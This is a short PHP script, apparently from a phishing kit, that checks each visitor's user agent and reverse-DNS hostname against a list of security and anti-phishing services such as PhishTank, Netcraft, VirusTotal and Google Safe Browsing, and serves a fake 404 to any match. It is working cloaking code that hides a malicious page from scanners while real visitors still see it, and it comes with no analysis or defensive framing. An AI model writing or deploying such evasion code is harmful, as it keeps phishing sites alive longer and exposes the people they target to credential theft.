<?php
$ua = strtolower($_SERVER["HTTP_USER_AGENT"]);
$host = strtolower(gethostbyaddr($_SERVER["REMOTE_ADDR"]));
$blocked = array("phishtank", "netcraft", "kaspersky", "bitdefender", "trendmicro", "urlscan", "virustotal", "google-safebrowsing");
foreach ($blocked as $b) { if (strpos($ua . $host, $b) !== false) { header("HTTP/1.0 404 Not Found"); die(); } }
?>
